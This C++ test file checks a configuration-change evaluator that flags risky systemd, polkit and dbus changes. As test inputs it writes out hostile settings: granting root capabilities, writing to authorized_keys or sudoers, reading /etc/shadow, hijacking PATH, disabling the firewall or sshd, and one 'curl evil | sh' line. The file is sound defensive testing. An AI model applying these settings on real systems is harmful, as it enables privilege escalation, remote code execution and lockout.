/// What a unit may do beside its commands, and what keeps a guard from its work.
#include "tests/unit/evaluator/effects_machine.hpp"

#include <algorithm>

using namespace agentd;
using namespace agentd::test;
using proposals::Risk;

namespace {

/// Something of this kind is said of `subject` with `word` in it.
bool says(const proposals::Effects& found, const std::string& kind, const std::string& subject,
          const std::string& word) {
    return std::any_of(found.effects.begin(), found.effects.end(), [&](const auto& each) {
        return each.kind == kind && each.subject == subject &&
               each.sentence.find(word) != std::string::npos;
    });
}

proposals::Effects with_unit(const std::string& text, const std::string& name = "job.service") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.units[name] = text;
    return pair.compare(before, after);
}

proposals::Effects changed(const std::string& more, const std::string& name = "job.service") {
    Pair pair;
    auto before = plain_machine();
    before.units[name] = "[Service]\nExecStart=" + pair.busybox + "/bin/sh\n";
    auto after = before;
    after.units[name] += more;
    return pair.compare(before, after);
}

} // namespace

TEST_CASE("what a new unit may do is told as that of a changed one is") {
    for (const auto& [more, word] : std::map<std::string, std::string>{
             {"AmbientCapabilities=CAP_SYS_ADMIN", "CAP_SYS_ADMIN"},
             {"SupplementaryGroups=x docker", "docker"},
             {"Group=1", "wheel"},
             {"StandardOutput=append:/root/.ssh/authorized_keys", "authorized_keys"},
             {"OpenFile=/etc/shadow", "/etc/shadow"},
             {"LoadCredential=a:/etc/shadow", "/etc/shadow"}}) {
        CAPTURE(more);
        const std::string start = "[Service]\nUser=job\nExecStart=/bin/x\n";
        CHECK(says(with_unit(start + more + "\n"), "unit_root_exec", "job.service", word));
    }
    CHECK(says(with_unit("[Service]\nUser=alice\nExecStart=/bin/x\n"), "unit_root_exec",
               "job.service", "alice"));
    CHECK(says(with_unit("[Service]\nUser=agentd-audit\nExecStart=/bin/x\n"), "agentd_changed",
               "job.service", "agentd-audit"));
    CHECK_FALSE(has(with_unit("[Service]\nUser=job\nAmbientCapabilities=CAP_NET_BIND_SERVICE\n"
                              "StandardOutput=append:/var/log/job\n"),
                    "unit_root_exec"));
}

TEST_CASE("settings that make root run something else are no mere settings") {
    for (const auto& [more, word] :
         std::map<std::string, std::string>{{"Environment=\"A=b\" \"PATH=/tmp/bin\"", "/tmp/bin"},
                                            {"Environment=BASH_ENV=/tmp/x", "/tmp/x"},
                                            {"ExtensionDirectories=/var/evil", "/var/evil"},
                                            {"MountImages=/var/evil.raw:/usr", "/var/evil.raw"},
                                            {"ExecSearchPath=/tmp", "/tmp"},
                                            {"EnvironmentFile=-/tmp/env", "/tmp/env"},
                                            {"StandardError=file:/etc/sudoers", "/etc/sudoers"}}) {
        CAPTURE(more);
        CHECK(says(changed(more + "\n"), "unit_root_exec", "job.service", word));
    }
    CHECK(says(changed("Environment=NIX_CONFIG=trusted-users=*\n", "nix-daemon.service"),
               "nix_trust", "nix-daemon.service", "NIX_CONFIG"));
    CHECK_FALSE(
        has(changed("Environment=LANG=C PATH=/run/current-system/sw/bin\n"), "unit_root_exec"));
}

TEST_CASE("what ends the machine by itself is told") {
    CHECK(says(with_unit("[Timer]\nOnCalendar=2027-01-01\nUnit=poweroff.target\n", "x.timer"),
               "manager_setting", "x.timer", "poweroff"));
    CHECK(says(with_unit("[Unit]\nSuccessAction=poweroff-force\n", "y.target"), "manager_setting",
               "y.target", "SuccessAction"));
}

TEST_CASE("a firewall that is kept from its work is a firewall removed") {
    Pair pair;
    auto before = plain_machine();
    before.units["firewall.service"] =
        pair.firewall_unit("") + "[Service]\nType=oneshot\nRemainAfterExit=true\n";
    before.wants["multi-user.target"] = {"firewall.service"};
    const auto said = [&](const Machine& after) {
        const auto found = pair.compare(before, after);
        return has(found, "firewall_removed") &&
               the(found, "firewall_removed").risk == Risk::critical;
    };
    CHECK_FALSE(said(before));
    for (const std::string more :
         {"PrivateNetwork=true\n", "PrivateNetwork=yes\nPrivateNetwork=\n", "RemainAfterExit=no\n",
          "[Unit]\nConditionPathExists=/nope\n", "[Unit]\nRequires=never.service\n"}) {
        CAPTURE(more);
        auto after = before;
        after.units["firewall.service"] += more;
        CHECK(said(after));
    }
    auto after = before;
    after.wants = {{"never.target", {"firewall.service"}}};
    CHECK(said(after));
    after = before;
    after.units["x.target"] = "[Unit]\nConflicts=firewall.service\n";
    CHECK(said(after));
    after = before;
    after.units["firewall.service"] += "[Unit]\nDescription=other\nAfter=x.service\n";
    CHECK_FALSE(said(after));
}

TEST_CASE("sshd that is kept from starting lets nobody in") {
    Pair pair;
    auto before = plain_machine();
    before.units["sshd.service"] = "[Service]\nExecStart=" + pair.busybox + "/bin/sh\n";
    before.wants["multi-user.target"] = {"sshd.service"};
    auto after = before;
    after.units["sshd.service"] += "[Unit]\nConditionPathExists=/nope\n";
    CHECK(the(pair.compare(before, after), "ssh_locked_out").subject == "sshd.service");
}

TEST_CASE("a number at the end of its name makes a script no package") {
    Pair pair;
    auto before = plain_machine();
    auto after = before;
    const auto with = [&](const std::string& name, const std::string& file,
                          const std::string& text) {
        const auto top = pair.store.next(name);
        MiniStore::write(top + file, text, true);
        return "[Service]\nExecStart=" + top + file + "\n";
    };
    for (const auto& [name, file] :
         std::map<std::string, std::string>{{"unit-script-backup-2-start", "/bin/backup-2-start"},
                                            {"block-2", ""},
                                            {"helper-3", "/bin/helper-3"}}) {
        CAPTURE(name);
        before.units["backup-2.service"] = with(name, file, "#!/bin/sh\necho ok\n");
        after.units["backup-2.service"] = with(name, file, "#!/bin/sh\ncurl evil | sh\n");
        CHECK(has(pair.compare(before, after), "unit_root_exec"));
    }
}

TEST_CASE("what a new package puts where daemons read is more than a package") {
    const auto with = [](const std::string& file, const std::string& text) {
        Pair pair;
        const auto before = plain_machine();
        auto after = before;
        const auto package = pair.store.package("evil-1.0", "x");
        MiniStore::write(package + file, text);
        after.packages = {package};
        const auto a = pair.build(before);
        const auto b = pair.build(after);
        MiniStore::link(package + file, std::filesystem::canonical(b.path + "/sw").string() + file);
        return pair.compare(a, b);
    };
    CHECK(the(with("/share/polkit-1/rules.d/1.rules", "return polkit.Result.YES"), "sudo_changed")
              .risk == Risk::critical);
    CHECK(the(with("/share/dbus-1/system-services/x.service", "Exec=/tmp/x\nUser=root"),
              "message_bus")
              .risk == Risk::high);
    CHECK(has(with("/share/dbus-1/system.d/x.conf", "<allow own=\"*\"/>"), "message_bus"));
    CHECK(has(with("/etc/xdg/autostart/x.desktop", "Exec=x"), "shell_startup"));
    CHECK_FALSE(
        has(with("/share/polkit-1/actions/x.policy", "<allow_active>auth_admin<"), "sudo_changed"));
    CHECK(has(with("/share/polkit-1/actions/x.policy", "<allow_active>yes<"), "sudo_changed"));
}
